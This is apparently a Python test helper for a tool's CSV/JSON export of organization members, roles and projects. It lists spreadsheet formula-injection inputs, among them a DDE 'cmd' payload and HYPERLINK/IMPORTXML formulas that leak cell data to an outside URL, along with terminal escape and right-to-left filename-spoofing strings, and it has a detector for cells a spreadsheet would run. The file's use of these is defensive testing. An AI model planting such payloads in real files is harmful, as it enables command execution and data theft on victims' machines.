"""A small organization to export, texts that are dangerous in a spreadsheet, and exports read back."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from typing import Any

from semtui.api.errors import NoAnswerError, SemaphoreError
from semtui.api.models import (
    Group,
    Member,
    Permission,
    Project,
    Role,
    RoleBinding,
    ServiceAccount,
)
from semtui.export.contents import (
    Exported,
    Format,
    What,
    export_text,
)
from semtui.organization.listing import LIST_NAMES, Listing, ListName
from semtui.organization.people import People
from semtui.organization.projects import Projects

NOW = 1_795_442_400.0
CREATED = 1_752_627_855
CREATED_CSV, CREATED_JSON = "2025-07-16 01:04:15Z", "2025-07-16T01:04:15Z"

# What others may have typed as a name, and what a spreadsheet makes of it without care.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\ufeff  =1+1",
    "   =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\ufe0f=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "a;=1+1",
    "a; \t@SUM(A1);-1",
]
HOSTILE = [
    *FORMULAS,
    'say "hi"',
    '"',
    '""=1+1',
    "a,b",
    "two\nlines",
    "two\r\nlines",
    "\x1b]0;title\x07\x1b[2J",
    "user\u202egnp.exe",
    "ad\u200bmin",
    "\ud800 half",
    "'=1+1",
    "Zoë 王秀英 🚀",
]
WHOLE = [text for text in HOSTILE if "\ud800" not in text]
"""All but the text with half a character, which JSON cannot hold."""

ACCOUNT_COUNTS = ("service_accounts", "deactivated_service_accounts")


def member(id: str, name: str, *roles: tuple[str, str]) -> Member:
    bindings = tuple(RoleBinding(role_id=f"id of {role}", role_name=role, source=source) for role, source in roles)
    return Member(id=id, name=name, roles=bindings)


def organization(**lists: Any) -> People:
    """A small organization with all its lists loaded."""
    people = People()
    full: dict[str, tuple[Any, ...]] = {
        "users": (
            member("p2", "Bo", ("Member", "scim"), ("Admin", "manually")),
            member("p1", "Ada", ("Owner", "manually")),
        ),
        "account_members": (member("a1", "old name", ("Member", "manually")),),
        "group_members": (member("g1", "Crew", ("Member", "manually")),),
        "accounts": (
            ServiceAccount(
                id="a1",
                name="ci",
                description="Deploys",
                org_id="o",
                creator_id="p1",
                created_at=CREATED,
                updated_at=CREATED + 60,
            ),
            ServiceAccount(id="a2", name="idle", deactivated=True),
        ),
        "groups": (Group(id="g1", name="Crew", description="Ships", member_ids=("gone", "p1", "a1")),),
        "roles": (
            Role(
                id="id of Member",
                name="Member",
                org_id="o",
                scope="org",
                description="Looks",
                permissions=("organization.view", "organization.dashboards.view"),
                rbac_permissions=(Permission(name="organization.view", description="Sees it"),),
                readonly=True,
            ),
            Role(id="id of Admin", name="Admin", scope="org"),
        ),
        **lists,
    }
    for name in LIST_NAMES:
        people = people.arrived(name, full[name], NOW)
    return people


def without(people: People, *names: ListName, trouble: SemaphoreError | None = None) -> People:
    """The same, with lists that never came."""
    for name in names:
        never: dict[str, Any] = {name: People().listing(name)}
        fresh = replace(people, **never)
        people = fresh.failed(name, trouble or NoAnswerError("acme is slow."))
    return people


PROJECTS = Projects(
    Listing(
        (
            Project(id="j1", name="shop", description="Sells", org_id="o", owner_id="p1"),
            Project(id="j2", name="unread", org_id="o", owner_id="gone"),
        ),
        loading=False,
        loaded_at=NOW,
    ),
    {"j1": Listing((member("p2", "Bo", ("Reader", "github"), ("Admin", "manually")),), loading=False, loaded_at=NOW)},
)


def exported(people: People, form: Format, what: What, projects: Projects = PROJECTS) -> Exported:
    roles = people.roles.items if (what, form) == ("all", "json") else None
    rows: dict[str, Any] = {"roles": people.roles.items, "projects": projects.listing.items}
    return export_text(rows.get(what, people.subjects), people, form, what, roles, projects)


def text_of(people: People, form: Format, what: What) -> str:
    return exported(people, form, what).text


def table(people: People, what: What) -> list[dict[str, str]]:
    """The CSV read back, row by row."""
    return list(csv.DictReader(io.StringIO(text_of(people, "csv", what), newline=""), strict=True))


def as_json(people: People, what: What) -> dict[str, Any]:
    text = text_of(people, "json", what)
    assert text.isascii()
    found: dict[str, Any] = json.loads(text)
    return found


def computes(cell: str) -> bool:
    """Whether a spreadsheet may run a cell, wherever it lets a cell begin; written apart from what is tested."""
    cell = cell.replace('"', "")
    for part in cell.split(";"):
        begin = next((char for char in part if not char.isspace() and char != "\ufeff"), "")
        if begin in tuple("=+-@＝＋－＠\0\t\r"):
            return True
    return False
